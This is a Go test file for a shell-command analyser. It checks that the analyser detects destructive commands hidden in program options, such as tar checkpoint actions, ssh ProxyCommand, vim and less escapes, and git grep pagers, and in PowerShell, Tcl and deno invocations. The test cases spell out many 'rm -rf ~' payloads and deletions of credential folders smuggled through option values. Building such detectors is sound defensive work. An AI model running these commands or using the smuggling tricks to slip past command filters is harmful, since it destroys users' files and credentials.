package shell

import (
	"strings"
	"testing"
)

// TestOptionCommands: an option whose value is a command line is analysed
// as that command, reached through a via label ending in "=" (so its
// program is one of Loads); ordinary options of the same programs are not.
func TestOptionCommands(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line string
		want string // the text of a command reached through an option; "" for none
	}{
		{"tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "rm -rf ~"},
		{"tar -xf a.tar --to-command='sh -c \"rm -rf ~\"'", "rm -rf ~"},
		{"tar -I 'rm -rf ~' -xf a.tar", "rm -rf ~"},
		{"tar --use-compress-program=/tmp/c.sh -xf a.tar", "c.sh"},
		{"zip /tmp/x.zip f -T -TT 'rm -rf ~ #'", "rm -rf ~"},
		{"rsync -e 'rm -rf ~' x host:/srv", "rm -rf ~"},
		{"rsync --rsh='rm -rf ~' x host:/srv", "rm -rf ~"},
		{"ssh -o ProxyCommand='rm -rf ~' host", "rm -rf ~"},
		{"ssh -oLocalCommand='rm -rf ~' -o PermitLocalCommand=yes host", "rm -rf ~"},
		{"less '+!rm -rf ~' README.md", "rm -rf ~"},
		{"man -P 'rm -rf ~' ls", "rm -rf ~"},
		{"man --pager='rm -rf ~' ls", "rm -rf ~"},
		{"script -qc 'rm -rf ~' /dev/null", "rm -rf ~"},
		{"script --command='rm -rf ~' /dev/null", "rm -rf ~"},
		{"vim -c ':!rm -rf ~' -c ':q'", "rm -rf ~"},
		{"vim '+silent !rm -rf ~' x", "rm -rf ~"},
		{"vim -c 'r !rm -rf ~' x", "rm -rf ~"},
		{"git grep -O'rm -rf ~' foo", "rm -rf ~"},
		{"git grep --open-files-in-pager='rm -rf ~' foo", "rm -rf ~"},

		{"tar -czf dist.tgz build/", ""},
		{"bsdtar -I list.txt -cf x.tar", ""},
		{"zip -r out.zip dist", ""},
		{"less +G app.log", ""},
		{"man -H ls", ""},
		{"vim -c 'set nu' README.md", ""},
		{"ssh -o StrictHostKeyChecking=no host uptime", ""},
		{"ssh -o ProxyCommand=none host uptime", ""},
		{"git grep -n TODO", ""},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		var got []string
		for _, c := range an.Commands {
			if fromSetting(c.Via) {
				got = append(got, c.Text)
			}
		}
		switch {
		case tc.want == "" && len(got) > 0:
			t.Errorf("%q: option commands %q, want none", tc.line, got)
		case tc.want != "" && !strings.Contains(strings.Join(got, "\n"), tc.want):
			t.Errorf("%q: option commands %q, want %q", tc.line, got, tc.want)
		}
	}
	an, err := Analyze("tar --use-compress-program=/tmp/c.sh -xf a.tar", Options{})
	if err != nil {
		t.Fatal(err)
	}
	var loads []string
	for _, c := range an.Commands {
		loads = append(loads, c.Loads...)
	}
	if strings.Join(loads, " ") != "/tmp/c.sh" {
		t.Errorf("tar --use-compress-program=/tmp/c.sh: loads %q, want /tmp/c.sh", loads)
	}
}

// TestOtherLanguages: PowerShell's and Tcl's code is analysed for the
// commands it runs; deno runs a remote module with every permission as
// downloaded code.
func TestOtherLanguages(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line, want string // want: a delete, or "downloaded" for RunsDownloaded, or "" for neither
	}{
		{"pwsh -c 'Remove-Item -Recurse -Force $HOME'", "$HOME"},
		{"powershell -Command 'ri -r $env:USERPROFILE/.aws'", "$HOME/.aws"},
		{"tclsh <<< 'exec rm -rf $env(HOME)/.aws'", "$HOME/.aws"},
		{"expect -c 'spawn ssh h; exec rm -rf /etc'", "/etc"},
		{"deno run -A https://x.example.net/mod.ts", "downloaded"},
		{"deno run --allow-run https://x.example.net/mod.ts", "downloaded"},

		{"pwsh -c 'Get-ChildItem'", ""},
		{"tclsh build.tcl", ""},
		{"deno run https://x.example.net/mod.ts", ""},
		{"deno run -A main.ts", ""},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		var got []string
		for _, c := range an.Commands {
			got = append(got, c.Deletes...)
			if len(c.RunsDownloaded) > 0 {
				got = append(got, "downloaded")
			}
		}
		switch {
		case tc.want == "" && len(got) > 0:
			t.Errorf("%q: %q, want nothing", tc.line, got)
		case tc.want != "" && !strings.Contains(strings.Join(got, "\n"), tc.want):
			t.Errorf("%q: %q, want %q", tc.line, got, tc.want)
		}
	}
}
